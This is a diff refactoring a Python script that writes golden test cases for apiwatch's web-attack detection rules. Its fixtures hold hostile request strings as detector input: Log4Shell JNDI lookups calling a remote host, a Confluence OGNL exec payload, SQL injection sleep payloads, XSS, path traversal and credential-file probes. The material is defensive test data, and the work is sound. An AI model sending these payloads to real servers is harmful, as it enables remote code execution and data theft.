@@ -1,4 +1,6 @@
-"""Write the golden cases of the built-in rule pack: ``python make_cases.py [OUT_DIR]``.
+"""Write the golden cases of the built-in rule pack, next to the rules (``rules/builtin/tests/``).
+
+Usage, from the repository: ``PYTHONPATH=src .venv/bin/python tests/rules/make_cases.py [OUT_DIR]``.
 
 Each case below is a function named after its directory (``<rule>/<case>/``). It records events
 the way apiwatch's sensor emits them (`Recorder.request`, `Recorder.login`) or the way an nginx
@@ -26,6 +28,7 @@ from typing import Any
 
 import msgspec
 
+from apiwatch.detect import builtin_dir
 from apiwatch.model import (
     Action,
     Event,
@@ -34,7 +37,6 @@ from apiwatch.model import (
     Http,
     HttpRequest,
     HttpResponse,
-    Log,
     Service,
     Source,
     Url,
@@ -42,11 +44,19 @@ from apiwatch.model import (
     UserAgent,
     encode_event,
 )
+from apiwatch.model.request_event import (
+    Verdict,
+    is_login_attempt,
+    login_action,
+    request_action,
+    request_event,
+    request_labels,
+)
 from apiwatch.sensor._tools import attack_tool
 from apiwatch.sources.accesslog import parse_access_line
 from apiwatch.sources.errorlogs import ERROR_PARSERS
 
-HERE = Path(__file__).resolve().parent
+HERE = builtin_dir() / "tests"  # where the cases ship, beside the rules they test
 T0 = datetime(2026, 3, 2, 9, 0, 0, tzinfo=UTC)  # a Monday morning; times are seconds from here
 LOGIN = "/api/v1/login"
 ORDER = "/api/v1/orders/{order_id}"
@@ -115,6 +125,12 @@ def alert(rule: str, group: dict[str, str], **extent: Any) -> dict[str, Any]:
     return {"rule": rule, "group": group, **found}
 
 
+def source_alert(rule: str, ip: str, count: int | None = None, **extent: Any) -> dict[str, Any]:
+    """The alert of a rule that groups by ``source.ip``, on the one attacker ``ip``."""
+    counted = {} if count is None else {"count": count}
+    return alert(rule, {"source.ip": ip}, **counted, attackers=[ip], **extent)
+
+
 @dataclass
 class Recorder:
     """The events of one case; event ids are numbered so that reruns write the same bytes."""
@@ -149,40 +165,24 @@ class Recorder:
     ) -> None:
         """One request as the sensor logs it (the OWASP action follows from route and status)."""
         tool = attack_tool(ua)
-        action = _sensor_action(method, path, status, tool)
-        spec = action.spec
-        labels = {"route": route or path}
-        if token_id:
-            labels["token_id"] = token_id
-        if session_id:
-            labels["session_id"] = session_id
-        if tool and action is Action.MALICIOUS_ATTACK_TOOL:
-            labels["attack_tool"] = tool
-        outcome = spec.outcome if spec.outcome != "unknown" else None
+        labels = request_labels(route or path, token_id, session_id, tool)
         self.events.append(
-            Event(
+            request_event(
+                _login_verdict(method, path, status),
+                status,
+                tool,
                 timestamp=T0 + timedelta(seconds=t),
-                event=EventMeta(
-                    id=self._id(),
-                    action=action.value,
-                    kind="event",
-                    category=list(spec.category),
-                    type=list(spec.type),
-                    outcome=outcome or ("success" if status < 400 else "failure"),
-                    duration=900_000 + (len(self.events) * 7_919_113) % 40_000_000,
-                    severity=spec.severity,
-                ),
-                log=Log(level=spec.level.lower(), logger="apiwatch.events"),
+                event_id=self._id(),
+                method=method,
+                path=path,
                 source=Source(ip=ip),
-                http=Http(
-                    request=HttpRequest(method=method), response=HttpResponse(status_code=status)
-                ),
-                url=Url(path=path, query=query),
-                user_agent=UserAgent(original=ua),
-                user=User(name=user) if user else None,
+                labels=labels,
                 service=Service(name=service),
                 host=Host(name=f"{service}-1"),
-                labels=labels,
+                query=query,
+                duration=900_000 + (len(self.events) * 7_919_113) % 40_000_000,
+                user_agent=UserAgent(original=ua),
+                user_name=user,
             )
         )
 
@@ -247,17 +247,14 @@ class Recorder:
         self._parsed(ERROR_PARSERS["magento"](f"[{when}] crowdsec-events.INFO:  {body} []", None))
 
 
-def _sensor_action(method: str, path: str, status: int, tool: str | None) -> Action:
-    """What the sensor's classifier says: login route first, then tools, 403 and 429."""
-    if method == "POST" and path == LOGIN:
-        return Action.AUTHN_LOGIN_SUCCESS if status < 400 else Action.AUTHN_LOGIN_FAIL
-    if tool:
-        return Action.MALICIOUS_ATTACK_TOOL
-    if status == 403:
-        return Action.AUTHZ_FAIL
-    if status == 429:
-        return Action.EXCESS_RATE_LIMIT_EXCEEDED
-    return Action.HTTP_REQUEST
+def _login_verdict(method: str, path: str, status: int) -> Verdict | None:
+    """What the sensor makes of a login to the JSON API (None: no login, or no outcome)."""
+    if not is_login_attempt(method, path, _LOGIN_PATHS):
+        return None
+    return login_action(status, Action.AUTHN_LOGIN_SUCCESS)
+
+
+_LOGIN_PATHS = frozenset({LOGIN})
 
 
 Expected = list[dict[str, Any]] | dict[str, Any]
@@ -378,7 +375,7 @@ def cs_combo(r: Recorder) -> Expected:
     customers(r, 0, 600)
     ip, tried = "203.0.113.23", [account(300 + n) for n in range(40)]
     stuff(r, ip, 90, tried)
-    return [alert(CS, {"source.ip": ip}, count=40, attackers=[ip], accounts=tried)]
+    return [source_alert(CS, ip, 40, accounts=tried)]
 
 
 @case(CS, "office-nat-monday-morning")
@@ -420,7 +417,7 @@ def lfs_stuffing(r: Recorder) -> Expected:
     ip = "203.0.113.40"
     for n in range(30):
         r.access_login(120 + n * 3, ip, ok=False, ua=PYTHON)
-    return [alert(LFS, {"source.ip": ip}, count=30, attackers=[ip], accounts=[])]
+    return [source_alert(LFS, ip, 30, accounts=[])]
 
 
 @case(LFS, "office-nat-access-log")
@@ -461,7 +458,7 @@ def ps_spray(r: Recorder) -> Expected:
     ip, tried = "203.0.113.99", [account(n) for n in range(24)]
     for n, who in enumerate(tried):  # Winter2026! against each account, one every seven minutes
         r.login(n * 420, ip, who, ok=False, ua=CHROME)
-    return [alert(PS, {"source.ip": ip}, count=24, attackers=[ip], accounts=tried)]
+    return [source_alert(PS, ip, 24, accounts=tried)]
 
 
 @case(PS, "office-nat-whole-morning")
@@ -670,7 +667,7 @@ def ats_hit(r: Recorder) -> Expected:
     r.login(60 + 30 * 4, ip, winner, ok=True, ua=PYTHON)
     stuff(r, ip, 60 + 31 * 4, tried[31:])
     return {
-        "alerts": [alert(ATS, {"source.ip": ip}, attackers=[ip])],
+        "alerts": [source_alert(ATS, ip)],
         "incidents": [{"attackers": [ip], "accounts_compromised": [winner]}],
     }
 
@@ -806,7 +803,7 @@ def tool_sqlmap(r: Recorder) -> Expected:
         r.request(
             60 + n * 2, ip, "GET", "/api/v1/search", 200, ua=SQLMAP, query=f"q=shoes&page={n}"
         )
-    return [alert(TOOL, {"source.ip": ip}, count=30, attackers=[ip])]
+    return [source_alert(TOOL, ip, 30)]
 
 
 @case(TOOL, "sensor-flagged-wfuzz")
@@ -815,7 +812,7 @@ def tool_wfuzz(r: Recorder) -> Expected:
     ip = "203.0.113.32"  # not in the rule's user-agent list; the sensor's own list has it
     for n, word in enumerate(("admin", "backup", "old", "test", "v0")):
         r.request(60 + n, ip, "GET", f"/api/{word}", 404, ua=WFUZZ)
-    return [alert(TOOL, {"source.ip": ip}, count=5, attackers=[ip])]
+    return [source_alert(TOOL, ip, 5)]
 
 
 @case(TOOL, "nikto-in-access-log")
@@ -824,7 +821,7 @@ def tool_nikto(r: Recorder) -> Expected:
     ip = "203.0.113.33"
     for n, path in enumerate(("/", "/robots.txt", "/cgi-bin/test.cgi", "/index.php?id=1")):
         r.access(60 + n, ip, "GET", path, 404, ua=NIKTO)
-    return [alert(TOOL, {"source.ip": ip}, count=4, attackers=[ip])]
+    return [source_alert(TOOL, ip, 4)]
 
 
 @case(TOOL, "ordinary-clients-and-probes")
@@ -845,7 +842,7 @@ def files_probe(r: Recorder) -> Expected:
              "/.aws/credentials", "/backup.sql"]  # fmt: skip
     for n, path in enumerate(paths):
         r.request(60 + n * 2, ip, "GET", path, 404, ua=CHROME)
-    return [alert(FILES, {"source.ip": ip}, count=len(paths), attackers=[ip])]
+    return [source_alert(FILES, ip, len(paths))]
 
 
 @case(FILES, "health-probes-and-ordinary-paths")
@@ -868,7 +865,7 @@ def trav_attack(r: Recorder) -> Expected:
                ("/static/%2e%2e/%2e%2e/windows/win.ini", None)]  # fmt: skip
     for n, (path, query) in enumerate(targets):
         r.request(60 + n * 3, ip, "GET", path, 400, ua=CURL, query=query)
-    return [alert(TRAV, {"source.ip": ip}, count=3, attackers=[ip])]
+    return [source_alert(TRAV, ip, 3)]
 
 
 @case(TRAV, "ordinary-dots")
@@ -889,7 +886,7 @@ def sqli_attack(r: Recorder) -> Expected:
                "id=1;WAITFOR%20DELAY%20%270:0:5%27--", "sort=(SELECT%20SLEEP(5))"]  # fmt: skip
     for n, query in enumerate(queries):
         r.request(60 + n * 4, ip, "GET", "/api/v1/products", 500, ua=CHROME, query=query)
-    return [alert(SQLI, {"source.ip": ip}, count=len(queries), attackers=[ip])]
+    return [source_alert(SQLI, ip, len(queries))]
 
 
 @case(SQLI, "search-terms")
@@ -910,7 +907,7 @@ def xss_attack(r: Recorder) -> Expected:
                "name=%3Csvg/onload=alert(1)%3E"]  # fmt: skip
     for n, query in enumerate(queries):
         r.request(60 + n * 4, ip, "GET", "/api/v1/search", 200, ua=FIREFOX, query=query)
-    return [alert(XSS, {"source.ip": ip}, count=len(queries), attackers=[ip])]
+    return [source_alert(XSS, ip, len(queries))]
 
 
 @case(XSS, "ordinary-queries")
@@ -934,7 +931,7 @@ def ef_attack(r: Recorder) -> Expected:
     ip = "203.0.113.38"
     for n in range(150):
         r.request(30 + n * 0.7, ip, "GET", f"/api/{'abcdefghij'[n % 10]}{n}", 404, ua=CHROME)
-    return [alert(EF, {"source.ip": ip}, count=150, attackers=[ip])]
+    return [source_alert(EF, ip, 150)]
 
 
 @case(EF, "googlebot-crawl-of-stale-links")
@@ -1019,7 +1016,7 @@ for _rule, _session in ((TMI, False), (SMI, True)):
 # (enumeration.yml, takeover.yml, scraping.yml; the /64 aggregates and canaries are the engine's)
 
 
-def app_event(  # noqa: PLR0917 - a request line: when, who, what, answer
+def app_event(
     r: Recorder,
     t: float,
     ip: str,
@@ -1039,7 +1036,8 @@ def app_event(  # noqa: PLR0917 - a request line: when, who, what, answer
 ) -> None:
     """One event as an app with the sensor and its audit calls logs it: an explicit action and
     reason, the request's duration, and ECS fields beyond apiwatch's model (``extra``)."""
-    chosen = action or _sensor_action(method, path, status, None)
+    verdict = action or request_action(status, None, _login_verdict(method, path, status))
+    chosen = verdict if isinstance(verdict, Action) else Action.HTTP_REQUEST
     spec = chosen.spec
     duration = int(duration_ms * 1_000_000) if duration_ms is not None else None
     r.events.append(
@@ -1151,7 +1149,7 @@ def enum_reset(r: Recorder) -> Expected:
         reset_request(
             r, 60 + n * 7, ip, who, known=who.endswith(("org", "net")) or n >= 20, ua=PYTHON
         )
-    return [alert(ENUM, {"source.ip": ip}, attackers=[ip])]
+    return [source_alert(ENUM, ip)]
 
 
 @case(ENUM, "forced-reset-wave-behind-office-nat")
@@ -1177,7 +1175,7 @@ def enuma_probe(r: Recorder) -> Expected:
     ip = "203.0.113.71"
     for n in range(40):
         r.access(60 + n * 5, ip, "POST", RESET, 404, ua=PYTHON)
-    return [alert(ENUMA, {"source.ip": ip}, count=40, attackers=[ip])]
+    return [source_alert(ENUMA, ip, 40)]
 
 
 @case(ENUMA, "access-log-reset-wave")
@@ -1198,7 +1196,7 @@ def enuml_timing(r: Recorder) -> Expected:
         exists = n % 6 == 0
         who = account(300 + n) if exists else f"guess{n}@example.com"
         timed_login(r, 60 + n * 9, ip, who, ok=False, ms=260 if exists else 3, ua=PYTHON)
-    return [alert(ENUML, {"source.ip": ip}, attackers=[ip])]
+    return [source_alert(ENUML, ip)]
 
 
 @case(ENUML, "app-says-unknown-user")
@@ -1216,7 +1214,7 @@ def enuml_reason(r: Recorder) -> Expected:
             ua=PYTHON,
             reason="unknown_user",
         )
-    return [alert(ENUML, {"source.ip": ip}, attackers=[ip])]
+    return [source_alert(ENUML, ip)]
 
 
 @case(ENUML, "stuffing-known-accounts-is-not-enumeration")
@@ -1564,13 +1562,19 @@ RURI, CACHE, UAS, WPU, APISCP = (
 )
 
 
-def hits(
-    r: Recorder, ip: str, start: int, lines: list[tuple[str, str, int]], *, ua: str, gap: float = 1
-) -> list[str]:
-    """Access-log requests ``(method, target, status)`` from one address, ``gap`` seconds apart."""
+Hits = list[tuple[str, str, int]]
+
+
+def access_scan(
+    r: Recorder, rule: str, ip: str, lines: Hits, *, ua: str, gap: float = 1, fires: bool = True
+) -> Expected:
+    """Five minutes of access-log customers, and the requests ``(method, target, status)`` of
+    one client from second 60 on, ``gap`` seconds apart: the rule's alert on it when it
+    ``fires``, else none."""
+    access_customers(r, 0, 300)
     for n, (method, target, status) in enumerate(lines):
-        r.access(start + int(n * gap), ip, method, target, status, ua=ua)
-    return [ip]
+        r.access(60 + int(n * gap), ip, method, target, status, ua=ua)
+    return [source_alert(rule, ip, len(lines))] if fires else []
 
 
 OGNL = "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/"
@@ -1578,146 +1582,91 @@ OGNL = "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22
 
 @case(EXP, "confluence-ognl-and-log4shell")
 def exp_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
     exploits = [
         ("GET", OGNL, 404),
         ("GET", "/?x=${jndi:ldap://203.0.113.99/a}", 200),
         ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
     ]
-    ip = hits(r, "203.0.113.51", 60, exploits, ua=CURL)
-    return [alert(EXP, {"source.ip": ip[0]}, count=3, attackers=ip)]
+    return access_scan(r, EXP, "203.0.113.51", exploits, ua=CURL)
 
 
 @case(EXP, "ordinary-requests")
 def exp_benign(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    hits(
-        r,
-        home_ip(200),
-        60,
-        [
-            ("GET", "/index.php?page=setup", 200),
-            ("POST", "/index.php?login=1", 302),
-            ("GET", "/api/v1/search?q=java.lang+runtime", 200),
-        ],
-        ua=FIREFOX,
-    )
-    return []
+    pages = [
+        ("GET", "/index.php?page=setup", 200),
+        ("POST", "/index.php?login=1", 302),
+        ("GET", "/api/v1/search?q=java.lang+runtime", 200),
+    ]
+    return access_scan(r, EXP, home_ip(200), pages, ua=FIREFOX, fires=False)
 
 
 @case(TECH, "web-shell-and-sap-probes")
 def tech_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    ip = hits(
-        r,
-        "203.0.113.52",
-        60,
-        [
-            ("GET", "/c99.php", 404),
-            ("GET", "/sap/bc/gui/x", 404),
-            ("CONNECT", "mail.example.com:25", 400),
-        ],
-        ua=CURL,
-    )
-    return [alert(TECH, {"source.ip": ip[0]}, count=3, attackers=ip)]
+    probes = [
+        ("GET", "/c99.php", 404),
+        ("GET", "/sap/bc/gui/x", 404),
+        ("CONNECT", "mail.example.com:25", 400),
+    ]
+    return access_scan(r, TECH, "203.0.113.52", probes, ua=CURL)
 
 
 @case(TECH, "answered-and-ordinary-404s")
 def tech_benign(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    hits(
-        r,
-        home_ip(201),
-        60,
-        [
-            ("GET", "/sap/bc/report", 200),
-            ("GET", "/img/logo-old.png", 404),
-            ("GET", "/wp-content/uploads/a.jpg", 404),
-        ],
-        ua=CHROME,
-    )
-    return []
+    pages = [
+        ("GET", "/sap/bc/report", 200),
+        ("GET", "/img/logo-old.png", 404),
+        ("GET", "/wp-content/uploads/a.jpg", 404),
+    ]
+    return access_scan(r, TECH, home_ip(201), pages, ua=CHROME, fires=False)
 
 
 @case(PROBE, "scanner-burst")
 def probe_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    ip = hits(
-        r,
-        "203.0.113.53",
-        60,
-        [("GET", f"/old/{n}.bak", 404) for n in range(12)],
-        ua=CHROME,
-        gap=0.5,
-    )
-    return [alert(PROBE, {"source.ip": ip[0]}, count=12, attackers=ip)]
+    backups: Hits = [("GET", f"/old/{n}.bak", 404) for n in range(12)]
+    return access_scan(r, PROBE, "203.0.113.53", backups, ua=CHROME, gap=0.5)
 
 
 @case(PROBE, "crawler-meeting-dead-links")
 def probe_benign(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
-    hits(
-        r,
-        GOOGLEBOT_IP,
-        30,
-        [("GET", f"/catalog/item-{n}", 404) for n in range(40)],
-        ua=GOOGLEBOT,
-        gap=2,
-    )
+    for n in range(40):
+        r.access(30 + n * 2, GOOGLEBOT_IP, "GET", f"/catalog/item-{n}", 404, ua=GOOGLEBOT)
     return []
 
 
 @case(RURI, "six-letter-flood")
 def ruri_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
     rng = r.rng
     word = ["".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(6)) for _ in range(40)]
-    ip = hits(r, "203.0.113.54", 60, [("GET", f"/{w}", 404) for w in word], ua=FIREFOX, gap=0.2)
-    return [alert(RURI, {"source.ip": ip[0]}, count=40, attackers=ip)]
+    flood: Hits = [("GET", f"/{w}", 404) for w in word]
+    return access_scan(r, RURI, "203.0.113.54", flood, ua=FIREFOX, gap=0.2)
 
 
 @case(RURI, "thirty-in-ten-seconds")
 def ruri_near(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    hits(r, "203.0.113.54", 60, [("GET", "/ABCDEF", 404)] * 30, ua=FIREFOX, gap=0.3)
-    return []
+    near: Hits = [("GET", "/ABCDEF", 404)] * 30
+    return access_scan(r, RURI, "203.0.113.54", near, ua=FIREFOX, gap=0.3, fires=False)
 
 
 @case(CACHE, "numeric-query-flood")
 def cache_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    ip = hits(
-        r,
-        "203.0.113.55",
-        60,
-        [("GET", f"/?{10_000_000 + n * 7919}", 200) for n in range(40)],
-        ua=FIREFOX,
-        gap=0.2,
-    )
-    return [alert(CACHE, {"source.ip": ip[0]}, count=40, attackers=ip)]
+    flood: Hits = [("GET", f"/?{10_000_000 + n * 7919}", 200) for n in range(40)]
+    return access_scan(r, CACHE, "203.0.113.55", flood, ua=FIREFOX, gap=0.2)
 
 
 @case(CACHE, "thirty-cache-busters")
 def cache_near(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    hits(
-        r,
-        "203.0.113.55",
-        60,
-        [("GET", f"/?{10_000_000 + n}", 200) for n in range(30)],
-        ua=FIREFOX,
-        gap=0.3,
-    )
-    return []
+    near: Hits = [("GET", f"/?{10_000_000 + n}", 200) for n in range(30)]
+    return access_scan(r, CACHE, "203.0.113.55", near, ua=FIREFOX, gap=0.3, fires=False)
 
 
 @case(UAS, "rotating-agents")
 def uas_attack(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
-    ip = hits(r, "203.0.113.56", 60, [], ua=CHROME)
+    ip = "203.0.113.56"
     for n in range(12):
-        r.access(60 + n // 3, ip[0], "GET", "/", 200, ua=f"Mozilla/5.0 (Agent {n})")
-    return [alert(UAS, {"source.ip": ip[0]}, count=12, attackers=ip)]
+        r.access(60 + n // 3, ip, "GET", "/", 200, ua=f"Mozilla/5.0 (Agent {n})")
+    return [source_alert(UAS, ip, 12)]
 
 
 @case(UAS, "office-nat-browsers")
@@ -1730,32 +1679,26 @@ def uas_benign(r: Recorder) -> Expected:
 
 @case(WPU, "author-walk")
 def wpu_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    ip = hits(
-        r, "203.0.113.57", 60, [("GET", f"/?author={n}", 404) for n in range(1, 9)], ua=CHROME
-    )
-    return [alert(WPU, {"source.ip": ip[0]}, count=8, attackers=ip)]
+    walk: Hits = [("GET", f"/?author={n}", 404) for n in range(1, 9)]
+    return access_scan(r, WPU, "203.0.113.57", walk, ua=CHROME)
 
 
 @case(WPU, "one-author-page-reloaded")
 def wpu_benign(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    hits(r, home_ip(202), 60, [("GET", "/?author=1", 200)] * 10, ua=CHROME, gap=3)
-    return []
+    reloads: Hits = [("GET", "/?author=1", 200)] * 10
+    return access_scan(r, WPU, home_ip(202), reloads, ua=CHROME, gap=3, fires=False)
 
 
 @case(APISCP, "login-form-guessing")
 def apiscp_attack(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    ip = hits(r, "203.0.113.58", 60, [("POST", "/apps/login", 200)] * 7, ua=CHROME, gap=2)
-    return [alert(APISCP, {"source.ip": ip[0]}, count=7, attackers=ip)]
+    guesses: Hits = [("POST", "/apps/login", 200)] * 7
+    return access_scan(r, APISCP, "203.0.113.58", guesses, ua=CHROME, gap=2)
 
 
 @case(APISCP, "five-logins-a-minute")
 def apiscp_near(r: Recorder) -> Expected:
-    access_customers(r, 0, 300)
-    hits(r, home_ip(203), 60, [("POST", "/apps/login", 200)] * 5, ua=CHROME, gap=10)
-    return []
+    logins: Hits = [("POST", "/apps/login", 200)] * 5
+    return access_scan(r, APISCP, home_ip(203), logins, ua=CHROME, gap=10, fires=False)
 
 
 NLIM = "nginx-limit-exceeded"
@@ -1767,7 +1710,7 @@ def nlim_attack(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
     for n in range(8):
         r.nginx_error(60 + n * 4, "203.0.113.59", LIMITED, f"/api/v1/products/{n}")
-    return [alert(NLIM, {"source.ip": "203.0.113.59"}, count=8, attackers=["203.0.113.59"])]
+    return [source_alert(NLIM, "203.0.113.59", 8)]
 
 
 @case(NLIM, "five-refusals-and-app-429s")
@@ -1789,7 +1732,7 @@ def burst_attack(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
     for n in range(8):  # a script against HTTP basic authentication: one account, 8 s
         r.nginx_error(60 + n, "203.0.113.60", f'user "admin{n}" was not found in "/etc/htpasswd"')
-    return [alert(BURST, {"source.ip": "203.0.113.60"}, count=8, attackers=["203.0.113.60"])]
+    return [source_alert(BURST, "203.0.113.60", 8)]
 
 
 @case(BURST, "admin-panel-script")
@@ -1797,7 +1740,7 @@ def burst_magento(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
     for n in range(7):
         r.magento(90 + n * 1.5, "203.0.113.61", "ADMIN_LOGIN_FAILED")
-    return [alert(BURST, {"source.ip": "203.0.113.61"}, count=7, attackers=["203.0.113.61"])]
+    return [source_alert(BURST, "203.0.113.61", 7)]
 
 
 @case(BURST, "five-quick-typos-and-an-office")
@@ -1815,7 +1758,7 @@ def cards_attack(r: Recorder) -> Expected:
     access_customers(r, 0, 300)
     for n in range(6):
         r.magento(60 + n * 5, "203.0.113.62", "PAYMENT_FAILED")
-    return [alert(CARDS, {"source.ip": "203.0.113.62"}, count=6, attackers=["203.0.113.62"])]
+    return [source_alert(CARDS, "203.0.113.62", 6)]
 
 
 @case(CARDS, "customer-retrying-a-declined-card")
@@ -1836,8 +1779,8 @@ def invv_attack(r: Recorder) -> Expected:
     r.access(60, "203.0.113.63", "GET", "/", 400, ua=CHROME, version="1.2")
     r.access(70, "203.0.113.64", "GET", "/", 400, ua=FIREFOX, version="2.1")
     return [
-        alert(INVV, {"source.ip": "203.0.113.63"}, count=1, attackers=["203.0.113.63"]),
-        alert(INVV, {"source.ip": "203.0.113.64"}, count=1, attackers=["203.0.113.64"]),
+        source_alert(INVV, "203.0.113.63", 1),
+        source_alert(INVV, "203.0.113.64", 1),
     ]
 
 
@@ -1856,7 +1799,7 @@ def exp_referer(r: Recorder) -> Expected:
     payload = "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.99/callback}"
     r.access(60, "203.0.113.65", "GET", "/", 200, ua=CHROME, referer=payload)
     r.access(61, home_ip(216), "GET", "/", 200, ua=CHROME, referer="https://shop.example.com/")
-    return [alert(EXP, {"source.ip": "203.0.113.65"}, count=1, attackers=["203.0.113.65"])]
+    return [source_alert(EXP, "203.0.113.65", 1)]
 
 
 MAIL = "mail-account-guessing"
@@ -1868,10 +1811,7 @@ def mail_attack(r: Recorder) -> Expected:
     tried = [account(n) for n in range(300, 305)]
     for n, who in enumerate(tried):
         r.mail_login_fail(60 + n * 3, "203.0.113.66", who)
-    return [
-        alert(MAIL, {"source.ip": "203.0.113.66"}, count=5, attackers=["203.0.113.66"],
-              accounts=tried)
-    ]  # fmt: skip
+    return [source_alert(MAIL, "203.0.113.66", 5, accounts=tried)]
 
 
 @case(MAIL, "three-colleagues-and-web-logins")
